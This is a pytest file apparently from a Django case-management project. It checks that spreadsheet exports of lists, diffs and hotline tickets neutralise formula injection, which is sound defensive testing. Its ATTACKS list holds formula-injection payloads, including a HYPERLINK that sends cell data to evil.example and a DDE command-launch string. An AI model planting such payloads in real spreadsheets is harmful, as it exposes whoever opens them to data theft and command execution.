"""Spreadsheets carry text from people and platforms as text, never as a formula."""

import io
from datetime import datetime

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from apps.core.excel import append_row, workbook_bytes
from apps.diversion import exporters
from apps.diversion.selectors import diff_lists
from apps.diversion.services import new_version
from apps.tickets.ingest import ingest
from tests.factories import DiversionItemFactory, DiversionListFactory

ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


def _cells(content):
    return [c for row in load_workbook(io.BytesIO(content)).active.iter_rows() for c in row]


@pytest.mark.parametrize("write_only", [True, False])
def test_formula_text_stays_text_and_numbers_stay_numbers(write_only):
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet() if write_only else workbook.active
    append_row(sheet, [*ATTACKS, 42, 3.5, datetime(2026, 12, 1, 10, 30), "普通文字"])
    cells = _cells(workbook_bytes(workbook))
    for cell, attack in zip(cells, ATTACKS, strict=False):
        assert cell.data_type == "s" and cell.value == attack
    assert [c.data_type for c in cells[len(ATTACKS) :]] == ["n", "n", "d", "s"]
    assert all(c.quotePrefix for c in cells[: len(ATTACKS)])


def _only_text(content, attack):
    hits = [c for c in _cells(content) if c.value == attack]
    assert hits, "the text should be in the file"
    assert all(c.data_type == "s" for c in hits)
    assert not any(c.data_type == "f" for c in _cells(content))


@pytest.mark.parametrize("attack", ATTACKS[:2])
def test_list_and_diff_exports_neutralise_formulas(region, attack):
    published = DiversionListFactory(region=region)
    DiversionItemFactory(diversion_list=published, matter="原事项")
    draft = new_version(published)
    DiversionItemFactory(diversion_list=draft, matter=attack, notes=attack)
    _only_text(exporters.export_list(draft), attack)
    _only_text(exporters.export_diff(published, draft, diff_lists(published, draft)), attack)


def test_ticket_export_neutralises_formulas(client, users, unit):
    attack = ATTACKS[1]
    data = {
        "external_id": "XLS-1",
        "region": unit.region.division_code,
        "received_at": datetime.now().astimezone(),
        "channel": "phone",
        "transfer_method": "one_key",
        "urgency": "general",
        "unit": unit.pk,
        "summary": attack,
    }
    (result,) = ingest([data], platform="12345")
    client.force_login(users["staff"])
    response = client.post(
        reverse("admin:tickets_ticket_changelist"),
        {"action": "export_xlsx", "index": 0, "_selected_action": [result.ticket.pk]},
    )
    _only_text(response.content, attack)
